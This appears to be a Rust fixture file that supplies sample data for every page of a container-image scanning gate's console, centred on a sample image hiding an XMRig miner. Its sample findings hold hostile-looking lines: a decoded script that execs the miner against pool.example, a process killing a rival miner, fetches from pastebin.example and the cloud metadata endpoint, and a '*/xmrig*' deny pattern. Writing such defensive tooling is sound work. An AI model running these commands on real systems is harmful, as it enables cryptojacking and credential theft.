//! Every page once, the way a gate fills it that holds the images of 2021. Every text goes through `say`, so that tests can
//! put another in its place.

use model::{
    ChainStep, Class, Coverage, Detection, Detonation, Digest, Finding, FlowLine, Gap, ImageSummary,
    LayerRef, LayerSummary, ProcessLine, REPORT_SCHEMA, Report, Role, RunLine, Severity, Stage, Timing, Tool,
    Verdict,
};
use web::{Frame, Moment, Notice, State, Viewer, Work};

type Say<'a> = &'a dyn Fn(&str) -> String;

/// 2026-11-28, 15:34:07.
const NOW: i64 = 1_795_880_047_000;

const fn ago(minutes: i64) -> Moment {
    Moment(NOW - minutes * 60_000)
}

const fn detection(
    id: &'static str,
    title: &'static str,
    severity: Severity,
    class: Class,
    techniques: &'static [&'static str],
) -> Detection {
    let stage = if id.as_bytes()[0] == b'D' { Stage::Dynamic } else { Stage::Static };
    let role = match severity {
        Severity::Critical => Role::Convicts,
        Severity::Low => Role::Context,
        _ => Role::Corroborates,
    };
    let why = "The image does for somebody else what it does not say it does.";
    let advice = "Do not run the image. Remove it wherever it was pulled, and look for what else came from this publisher.";
    Detection { id, title, severity, role, class, stage, techniques, why, advice }
}

static CATALOGUE: [Detection; 10] = [
    detection("S-MIN-HASH", "Known miner", Severity::Critical, Class::File, &["T1496.001"]),
    detection(
        "D-MIN-STRATUM",
        "Work taken from a mining pool",
        Severity::Critical,
        Class::Net,
        &["T1496.001", "T1071"],
    ),
    detection("S-CFG-HIDDENRUN", "Start of a hidden program", Severity::High, Class::Reach, &["T1564.001"]),
    detection(
        "S-OBF-LAYERS",
        "Program text encoded in rounds",
        Severity::High,
        Class::File,
        &["T1027.010", "T1140"],
    ),
    detection(
        "S-META-IMPERSON",
        "Official name under a foreign publisher",
        Severity::Medium,
        Class::Name,
        &["T1036.005"],
    ),
    detection("D-DLX-FETCHRUN", "Download run", Severity::High, Class::Proc, &["T1105", "T1059.004"]),
    detection(
        "S-ESC-SOCK",
        "Container started that owns the host",
        Severity::High,
        Class::File,
        &["T1610", "T1611"],
    ),
    detection("D-EVA-KILLSEC", "Defences killed", Severity::High, Class::Proc, &["T1685", "T1562.001"]),
    detection("S-CRE-SECRET", "Secret left behind", Severity::Medium, Class::File, &["T1552.001"]),
    detection("S-PKG-UNOWNED", "Executable without a package", Severity::Low, Class::File, &[]),
];

/// What the sample findings stand for.
pub(crate) fn catalogue(id: &str) -> Option<&'static Detection> {
    CATALOGUE.iter().find(|detection| detection.id == id)
}

fn digest(byte: u8) -> Digest {
    Digest::sha256([byte; 32])
}

fn name_of(byte: u8) -> String {
    digest(byte).to_string()
}

/// Every page, by name.
pub(crate) fn pages(say: Say<'_>) -> Vec<(&'static str, String)> {
    let frame = frame(say);
    let notice =
        |done, message: &str| Frame { notice: Some(Notice { done, message: say(message) }), ..frame.clone() };
    let stranger = Frame { viewer: None, ..frame.clone() };
    let malicious = image(say, State::Denied);
    let held = web::Image { others: Vec::new(), barred: false, ..image(say, State::Quarantined) };
    let working = web::Image {
        report: None,
        verdict: None,
        rule: String::new(),
        message: String::new(),
        decided: None,
        decided_by: String::new(),
        companions: Vec::new(),
        approvals: Vec::new(),
        history: Vec::new(),
        barred: false,
        not_to_approve: Some(say(
            "the image was not looked at yet; approve it when it is known what speaks against it",
        )),
        work: Some(Work { doing: say("reading"), percent: Some(40) }),
        ..image(say, State::Quarantined)
    };
    let released = web::Image {
        report: Some(clean(say)),
        verdict: Some(Verdict::Clean),
        barred: false,
        may_decide: true,
        rule: say("clean"),
        message: say("nothing speaks against it"),
        pull: Some(say(&format!("docker pull gate.example:5000/team/app@{}", name_of(9)))),
        not_to_approve: Some(say("the image is released already")),
        ..image(say, State::Released)
    };
    let coverage = {
        let mut coverage = web::Coverage::new(CATALOGUE.iter().collect());
        coverage.add_image(["T1496.001", "T1071", "T1564.001"]);
        coverage.add_image(["T1552.001"]);
        coverage
    };
    let empty = web::Queue { rows: Vec::new(), next: None, ..queue(say, 0) };
    vec![
        ("login", web::login(&stranger, &login(say))),
        ("problem", web::problem(&frame, &problem(say))),
        ("queue", web::queue(&notice(true, "The image team/app was approved."), &queue(say, 9))),
        ("queue-rows", web::queue_rows(&queue(say, 9))),
        ("queue-empty", web::queue(&frame, &empty)),
        ("image-malicious", web::image(&frame, &malicious, &catalogue)),
        (
            "image-held",
            web::image(&notice(false, "Write why, for whoever reads it in a year."), &held, &catalogue),
        ),
        ("image-working", web::image(&frame, &working, &catalogue)),
        ("image-standing", web::image_standing(&working)),
        ("image-released", web::image(&frame, &released, &catalogue)),
        ("comparison", web::comparison(&frame, &comparison(say))),
        ("search", web::search(&frame, &search(say))),
        ("coverage", web::coverage(&frame, &coverage)),
        ("exceptions", web::exceptions(&frame, &exceptions(say))),
        ("journal", web::journal(&frame, &journal(say))),
        ("accounts", web::accounts(&frame, &accounts(say))),
        ("upstreams", web::upstreams(&frame, &upstreams(say))),
        ("health", web::health(&frame, &health(say))),
    ]
}

pub(crate) fn frame(say: Say<'_>) -> Frame {
    Frame {
        viewer: Some(Viewer { name: say("alice"), is_admin: true }),
        csrf: say("0f1e2d3c4b5a69788796a5b4c3d2e1f0"),
        notice: None,
        version: say("0.1.0"),
    }
}

fn login(say: Say<'_>) -> web::Login {
    web::Login {
        name: say("alice"),
        provider: Some(say("Example SSO")),
        next: say("/console/health"),
        message: Some(say("That name and password do not belong together.")),
    }
}

fn problem(say: Say<'_>) -> web::Problem {
    web::Problem {
        status: 404,
        message: say("There is no image team/app@sha256:1234 here."),
        advice: say("Look for it by its repository; a tag may point to another one by now."),
    }
}

pub(crate) fn queue(say: Say<'_>, rows: usize) -> web::Queue {
    let row = |at: usize| {
        let state = State::ALL[at % 4];
        let work = match at {
            0 => Some(Work { doing: say("fetching"), percent: Some(40) }),
            4 => Some(Work { doing: say("running"), percent: None }),
            _ => None,
        };
        let looked_at = work.is_none();
        web::Row {
            repository: say([
                "hub/700888880a0/golang",
                "team/app",
                "hub/azurenql/openjdk",
                "hub/library/nginx",
            ][at % 4]),
            digest: say(&name_of(at as u8 + 9)),
            tags: vec![say("1.25"), say("latest")],
            state,
            verdict: looked_at.then_some(
                [Verdict::Suspicious, Verdict::Clean, Verdict::Malicious, Verdict::Incomplete][at % 4],
            ),
            rule: say(["", "clean", "malicious", "person"][at % 4]),
            message: say([
                "",
                "nothing speaks against it",
                "S-MIN-HASH: a known miner is started by the entrypoint",
                "a newer rule convicts it: S-MIN-HASH in layer 4",
            ][at % 4]),
            first_seen: ago(7 * at as i64),
            work,
        }
    };
    web::Queue {
        state: None,
        repository: say("hub/*"),
        counts: web::Counts { quarantined: 12, released: 3_120, denied: 41, revoked: 2 },
        rows: (0..rows).map(row).collect(),
        last: say("team/app@sha256:00"),
        next: Some(say(&format!("team/app@{}", name_of(9)))),
    }
}

pub(crate) fn image(say: Say<'_>, state: State) -> web::Image {
    web::Image {
        repository: say("hub/700888880a0/golang"),
        digest: say(&name_of(0x11)),
        tags: vec![say("e2e26c727b88"), say("latest")],
        state,
        verdict: Some(Verdict::Malicious),
        rule: say("malicious"),
        message: say(
            "The image starts a program that mines Monero for somebody else: /usr/lib/.x/ld in layer 4 (S-MIN-HASH).",
        ),
        decided_by: say("policy"),
        decided: Some(ago(3)),
        first_seen: ago(5),
        came_by: say("upstream hub"),
        pull: None,
        work: None,
        barred: true,
        report: Some(miner(say)),
        companions: vec![
            web::Companion {
                kind: say("signature"),
                digest: say(&name_of(0x21)),
                size: 1_412,
                by: say("this gate"),
            },
            web::Companion {
                kind: say("attestation: scan report"),
                digest: say(&name_of(0x22)),
                size: 48_120,
                by: say("this gate"),
            },
        ],
        approvals: vec![web::Approval {
            by: say("bob"),
            reason: say("we need it for the demonstration on Monday"),
            time: ago(100),
            counts: false,
        }],
        approvals_needed: 2,
        history: vec![
            web::Decision {
                time: ago(3),
                what: say("denied"),
                by: say("policy"),
                rule: say("malicious"),
                message: say("S-MIN-HASH: a known miner"),
                entry: Some(4_711),
            },
            web::Decision {
                time: ago(5),
                what: say("quarantined"),
                by: say("upstream hub"),
                rule: String::new(),
                message: say("it came by a pull"),
                entry: None,
            },
        ],
        others: vec![web::Other { digest: say(&name_of(0x12)), tags: vec![say("1.24")] }],
        may_decide: true,
        not_to_approve: (state != State::Quarantined)
            .then(|| say("the image is refused, and an approval releases what is held")),
        may_ask: true,
    }
}

fn comparison(say: Say<'_>) -> web::Comparison {
    let side = |digest, state, report| web::Compared {
        repository: say("hub/700888880a0/golang"),
        digest: say(digest),
        state,
        report,
    };
    web::Comparison {
        old: side(&name_of(0x12), State::Released, clean(say)),
        new: side(&name_of(0x11), State::Denied, miner(say)),
    }
}

fn search(say: Say<'_>) -> web::Search {
    let hit = |what: &str, place: &str, state, verdict| web::Hit {
        repository: say("hub/700888880a0/golang"),
        digest: say(&name_of(0x11)),
        state,
        verdict,
        what: say(what),
        place: say(place),
    };
    web::Search {
        query: say("4873e560df68ad96c3de08164b139b09"),
        hits: vec![
            hit("md5 of a file", "/usr/lib/.x/ld", State::Denied, Some(Verdict::Malicious)),
            hit("finding", "S-MIN-HASH", State::Revoked, None),
        ],
        is_cut: true,
    }
}

fn exceptions(say: Say<'_>) -> web::Exceptions {
    let states = [
        web::ExceptionState::Waiting,
        web::ExceptionState::InForce,
        web::ExceptionState::Expired,
        web::ExceptionState::Withdrawn,
    ];
    let exception = |(at, state): (usize, web::ExceptionState)| web::Exception {
        id: at as i64 + 1,
        rule: Some(say("S-CRE-SECRET")),
        content: (at % 2 == 0).then(|| say(&name_of(0x31))),
        repositories: (at % 2 == 1).then(|| say("team/*")),
        path: Some(say("/app/test/fixtures/id_rsa")),
        gap: (at == 3).then(|| say("layer 3")),
        reason: say("It is a key of the test fixtures and opens nothing."),
        asked_by: say("user:alice"),
        asked: ago(2_000),
        approved_by: (at > 0).then(|| say("user:bob")),
        expires: Moment(NOW + 86_400_000 * 30),
        state,
        may_approve: at == 0,
        may_withdraw: at < 2,
    };
    web::Exceptions {
        list: states.into_iter().enumerate().map(exception).collect(),
        may_ask: true,
        asked: web::Asked {
            content: say(&name_of(0x31)),
            rule: say("S-CRE-SECRET"),
            repositories: say("team/*"),
            path: say("/app/test"),
            gap: say("layer 3"),
            reason: say("It is a key of the test fixtures."),
            expires: say("2027-01-31"),
        },
    }
}

fn journal(say: Say<'_>) -> web::Journal {
    let entry = |number: i64| web::Entry {
        number,
        time: ago(4_720 - number),
        kind: say(["released", "denied", "login"][number as usize % 3]),
        body: say("{\"by\":\"policy\",\"rule\":\"malicious\",\"verdict\":\"malicious\"}"),
        image: (number % 3 != 2).then(|| (say("hub/700888880a0/golang"), say(&name_of(number as u8)))),
        hash: say(&digest(number as u8).hex()),
    };
    web::Journal {
        entries: (4_700..4_712).rev().map(entry).collect(),
        head: 4_711,
        broken: Some(4_710),
        older: Some(4_600),
        newer: Some(4_800),
    }
}

fn accounts(say: Say<'_>) -> web::Accounts {
    web::Accounts {
        users: vec![
            web::User {
                name: say("alice"),
                is_admin: true,
                created: ago(90_000),
                is_viewer: true,
                ..web::User::default()
            },
            web::User {
                name: say("bob"),
                provider: Some(say("Example SSO")),
                created: ago(80_000),
                ..web::User::default()
            },
            web::User {
                name: say("mallory"),
                is_disabled: true,
                is_admin: true,
                created: ago(70_000),
                ..web::User::default()
            },
        ],
        robots: vec![
            web::Robot {
                name: say("ci"),
                scopes: vec![say("team/* pull, push"), say("hub/* pull")],
                expires: Some(Moment(NOW + 86_400_000)),
                created_by: say("alice"),
                created: ago(60_000),
                ..web::Robot::default()
            },
            web::Robot {
                name: say("old"),
                scopes: vec![say("team/old pull")],
                expires: Some(ago(10)),
                is_expired: true,
                created_by: say("alice"),
                created: ago(60_000),
                ..web::Robot::default()
            },
        ],
        grants: vec![web::Grant {
            principal: say("user:bob"),
            repositories: say("team/*"),
            actions: vec![say("pull"), say("push")],
            created_by: say("alice"),
            created: ago(60_000),
        }],
        actions: ["pull", "push", "overwrite", "delete", "quarantine-read"].map(say).into(),
        new_secret: Some(web::NewSecret { name: say("ci"), secret: say("rsr_0123456789abcdef") }),
        may_change: true,
        has_password: true,
    }
}

fn upstreams(say: Say<'_>) -> web::Upstreams {
    web::Upstreams {
        list: vec![
            web::Upstream {
                name: say("hub"),
                addresses: vec![say("https://registry-1.docker.io"), say("https://mirror.example")],
                has_login: true,
                allow: vec![say("library/*"), say("bitnami/*")],
                deny: vec![say("*/xmrig*")],
                signature_keys: 2,
                minimum_age: say("3 days"),
            },
            web::Upstream {
                name: say("quay"),
                addresses: vec![say("https://quay.io")],
                ..web::Upstream::default()
            },
        ],
    }
}

fn health(say: Say<'_>) -> web::Health {
    web::Health {
        version: say("0.1.0"),
        rules: say(&name_of(0xee)),
        policy: say(&name_of(0xef)),
        feeds: vec![say(&format!("miners@{}", digest(0xfe).short()))],
        uptime: 277_300,
        checks: vec![
            web::Check { name: say("store"), works: true, message: String::new() },
            web::Check {
                name: say("sandbox"),
                works: false,
                message: say("user namespaces are switched off; roadstead doctor says what to do"),
            },
        ],
        counts: web::Counts { quarantined: 12, released: 3_120, denied: 41, revoked: 2 },
        jobs: vec![
            web::Jobs { kind: say("analyse"), waiting: 3, running: 2 },
            web::Jobs { kind: say("fetch"), waiting: 0, running: 1 },
        ],
        disks: vec![
            web::Disk { what: say("blobs"), used: 52_000_000_000, free: Some(120_000_000_000) },
            web::Disk { what: say("cache"), used: 800_000_000, free: None },
        ],
        upkeep: vec![
            web::Upkeep {
                what: say("collect garbage"),
                last: Some(ago(55)),
                result: say("12 blobs, 1.2 GiB"),
            },
            web::Upkeep { what: say("check blobs"), last: None, result: String::new() },
        ],
    }
}

const INSTRUCTIONS: [&str; 5] = [
    "/bin/sh -c #(nop) ADD file:0d82cd095966e8ee78b593cb47a352eec842edb7bd9d9468e8a70154522447d1 in / ",
    "/bin/sh -c apt-get update && apt-get install -y python3 && rm -rf /var/lib/apt/lists/*",
    "/bin/sh -c useradd -m worker",
    "/bin/sh -c #(nop) COPY file:5e2d5f3c1c7c0b5fdc0f1ad0c1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4 in /dao.py ",
    "/bin/sh -c #(nop) COPY dir:7d9f0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f6071829300aabbcc in /usr/lib/.x ",
];

fn finding(
    say: Say<'_>,
    id: &str,
    path: &str,
    layer: usize,
    why: &str,
    evidence: &[(&str, &str, Option<u64>)],
) -> Finding {
    let known = catalogue(id).unwrap_or(&CATALOGUE[0]);
    let mut finding = Finding::of(known, say(why));
    for (kind, value, offset) in evidence {
        finding.evidence.push(model::Evidence {
            kind: (*kind).to_owned(),
            value: say(value),
            offset: *offset,
        });
    }
    finding.id = say(id);
    finding.title = say(known.title);
    finding.techniques = known.techniques.iter().map(|technique| say(technique)).collect();
    finding.platform = say("linux/amd64");
    finding.path = (!path.is_empty()).then(|| say(path));
    finding.layer = (!path.is_empty()).then(|| LayerRef {
        index: layer,
        digest: digest(layer as u8 + 1),
        created_by: say(INSTRUCTIONS[layer]),
    });
    finding
}

fn step(say: Say<'_>, step: usize, stage: Stage, what: &str, finding: Option<&str>) -> ChainStep {
    ChainStep { step, stage, what: say(what), finding: finding.map(say) }
}

/// The shape of 2021: a script in one layer starts a miner that is hidden in another.
pub(crate) fn miner(say: Say<'_>) -> Report {
    let found = Finding {
        reachable: Some(true),
        content: Some(digest(0xab)),
        ..finding(
            say,
            "S-MIN-HASH",
            "/usr/lib/.x/ld",
            4,
            "The MD5 of this file is on the built-in list of known miners (xmrig).",
            &[
                ("md5", "4873e560df68ad96c3de08164b139b09", None),
                ("match", "$banner XMRig/6.13.1 libuv/1.41.0\\x00gcc", Some(2_113_536)),
                (
                    model::BYTES,
                    "584d5269672f362e31332e31206c69627576002f312e34312e3000676363",
                    Some(2_113_536),
                ),
            ],
        )
    };
    let encoded = finding(
        say,
        "S-OBF-LAYERS",
        "/dao.py",
        3,
        "The script decodes its real text in three rounds before it runs it.",
        &[
            ("round", "base64, 1,204 bytes", None),
            ("round", "zlib, 2,900 bytes", None),
            ("round", "python source, 2,900 bytes", None),
            ("decoded sha256", &digest(0xcd).hex(), None),
            (
                "decoded",
                "import os,time\\u{a}os.execv('/usr/lib/.x/ld', ['ld','-o','pool.example:3333'])",
                None,
            ),
        ],
    );
    Report {
        schema: REPORT_SCHEMA.to_owned(),
        tool: Tool {
            version: say("0.1.0"),
            rules: say(&name_of(0xee)),
            feeds: vec![say("miners@sha256:fefe")],
        },
        image: ImageSummary {
            reference: say("docker.io/700888880a0/golang:e2e26c727b88"),
            digest: Some(digest(0x11)),
            platforms: vec![say("linux/amd64")],
            layers: (0..5).map(|index| layer(say, index, index as u8 + 1)).collect(),
        },
        verdict: Verdict::Malicious,
        summary: say(
            "Malicious: the entrypoint starts a known miner, which took work from a pool in the sandbox.",
        ),
        axes: model::Axes::default(),
        findings: vec![
            found,
            finding(
                say,
                "D-MIN-STRATUM",
                "",
                0,
                "A process logged in to a mining pool and handed in a share.",
                &[
                    (
                        "wallet",
                        "46E9UkTFqALXNh2mSbA7WGDoa2i6h4WVgUgPVdT9ZdtweLRvAhWmbvuY1dhEmfjHbsavKXo3eGf5ZRb4qJzFXLVHGYH4moQ",
                        None,
                    ),
                    ("endpoint", "pool.example:3333", None),
                ],
            ),
            encoded,
            finding(
                say,
                "S-CFG-HIDDENRUN",
                "/usr/lib/.x/ld",
                4,
                "The start leads to a program in a hidden folder.",
                &[],
            ),
            finding(
                say,
                "S-META-IMPERSON",
                "",
                0,
                "golang is an official image; this one is published by 700888880a0.",
                &[("field", "700888880a0/golang", None)],
            ),
            finding(say, "S-PKG-UNOWNED", "/dao.py", 3, "No package owns this executable.", &[]),
        ],
        chain: vec![
            step(say, 1, Stage::Static, "ENTRYPOINT python3 /dao.py (layer 3)", None),
            step(
                say,
                2,
                Stage::Static,
                "/dao.py decodes three rounds and starts /usr/lib/.x/ld (layer 4)",
                Some("S-OBF-LAYERS"),
            ),
            step(say, 3, Stage::Static, "/usr/lib/.x/ld is xmrig (MD5 4873e560…)", Some("S-MIN-HASH")),
            step(
                say,
                4,
                Stage::Dynamic,
                "ld asks for pool.example and logs in to a pool with a wallet",
                Some("D-MIN-STRATUM"),
            ),
        ],
        gaps: vec![Gap {
            what: say("/var/lib/db.bin"),
            why: say("it is longer than what an analyzer may hold; 4 MiB of it were not read"),
        }],
        exceptions: Vec::new(),
        detonation: Some(detonation(say)),
        coverage: Coverage {
            layers: 5,
            files: 3_120,
            bytes: 121_367_552,
            bytes_read: 121_367_552,
            runs: 2,
            events_dropped: 0,
        },
        timing_ms: Timing { total: 9_480, static_: 1_480, dynamic: 8_000 },
    }
}

fn layer(say: Say<'_>, index: usize, byte: u8) -> LayerSummary {
    LayerSummary {
        platform: say("linux/amd64"),
        index,
        digest: digest(byte),
        created_by: say(INSTRUCTIONS[index]),
        bytes: [76_800_000, 41_000_000, 1_536, 4_096, 3_562_920][index],
        entries: [2_800, 300, 4, 1, 15][index],
    }
}

fn detonation(say: Say<'_>) -> Detonation {
    let run = |name: &str, ended: &str| RunLine {
        name: say(name),
        platform: "linux/amd64".to_owned(),
        ended: say(ended),
        events: 48_120,
        milliseconds: 61_500,
        skipped_seconds: 21_600,
    };
    let process = |run, number, parent, milliseconds, command: &str, origin: &str| ProcessLine {
        run,
        number,
        parent,
        milliseconds,
        command: say(command),
        origin: say(origin),
    };
    let flow =
        |process, milliseconds, host: &str, port, protocol: &str, sent, received, said: &str| FlowLine {
            run: 0,
            process: Some(process),
            milliseconds,
            closed: (port != 3333).then_some(milliseconds + 400),
            host: say(host),
            port,
            protocol: say(protocol),
            sent,
            received,
            said: say(said),
        };
    Detonation {
        engine: say("native"),
        runs: vec![
            run("as configured", "the time that it was given was over"),
            run("as another user", "its first process ended with 1"),
        ],
        processes: vec![
            process(0, 1, 0, 0, "python3 /dao.py", "image"),
            process(0, 2, 1, 420, "/bin/sh -c 'nproc; cat /proc/cpuinfo'", "image"),
            process(0, 3, 2, 430, "nproc", "image"),
            process(0, 4, 1, 1_900, "/usr/lib/.x/ld -o pool.example:3333 -u 46E9UkTF… -p x", "written"),
            process(0, 5, 4, 21_540_000, "/bin/sh -c 'pkill -9 kdevtmpfsi'", "image"),
            process(1, 1, 0, 0, "python3 /dao.py", "image"),
        ],
        network: vec![
            flow(4, 2_100, "10.0.2.3", 53, "dns", 31, 47, "pool.example → 198.18.0.7"),
            flow(4, 2_150, "pool.example", 3333, "stratum", 1_204, 5_812, "login 46E9UkTFqALXNh2m…"),
            flow(4, 9_000_000, "pool.example", 3333, "stratum", 904, 2_812, "submit 46E9UkTFqALXNh2m…"),
            flow(1, 61_000, "pastebin.example", 443, "http", 210, 96, "GET /raw/x7 → 404"),
            flow(
                5,
                21_541_000,
                "169.254.169.254",
                80,
                "http",
                96,
                210,
                "GET /latest/meta-data/iam → 200 canary",
            ),
        ],
        not_exercised: vec![
            say("the health check was not run: the image has none"),
            say("port 8080 was opened, and no request made it do anything"),
        ],
        limitations: vec![say("processors of another architecture are not emulated")],
    }
}

/// The image before: the same base, and nothing against it.
pub(crate) fn clean(say: Say<'_>) -> Report {
    let miner = miner(say);
    Report {
        verdict: Verdict::Clean,
        summary: say("Clean: everything was read, and nothing counts against it."),
        findings: vec![finding(
            say,
            "S-CRE-SECRET",
            "/app/test/fixtures/id_rsa",
            2,
            "A private key lies in the image.",
            &[("key", "RSA, 2048 bits", None)],
        )],
        chain: vec![step(say, 1, Stage::Static, "ENTRYPOINT python3 /app.py (layer 2)", None)],
        gaps: Vec::new(),
        detonation: None,
        image: ImageSummary {
            layers: (0..3).map(|index| layer(say, index, index as u8 + 1)).collect(),
            ..miner.image
        },
        ..miner
    }
}
